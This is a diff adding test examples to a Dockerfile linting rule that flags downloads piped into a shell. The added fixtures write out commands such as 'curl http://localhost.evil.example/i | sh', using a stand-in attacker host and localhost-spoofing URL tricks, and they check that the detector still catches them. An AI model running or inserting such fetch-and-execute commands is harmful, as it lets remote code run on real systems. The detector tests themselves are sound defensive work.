@@ -88,6 +88,9 @@ export const DOCKERFILE_RULES: readonly TextRule[] = [
     ),
     examples: [
       { path: 'Dockerfile', code: `${FROM}RUN curl -fsSL http://example.org/install | bash -\n`, lines: [2] },
+      { path: 'Dockerfile', code: `${FROM}RUN curl http://localhost.evil.example/i | sh\n`, lines: [2] },
+      { path: 'Dockerfile', code: `${FROM}RUN curl http://localhost:80@evil.example/i | sh\n`, lines: [2] },
+      { path: 'Dockerfile', code: `${FROM}RUN curl http://127.0.0.1:8080/i | sh\n`, lines: [] },
       {
         path: 'Dockerfile',
         code: `${FROM}RUN curl -fsSL http://example.org/key.gpg | gpg --dearmor -o /key.gpg\nRUN curl -sL https://example.org/install | sh\n`,
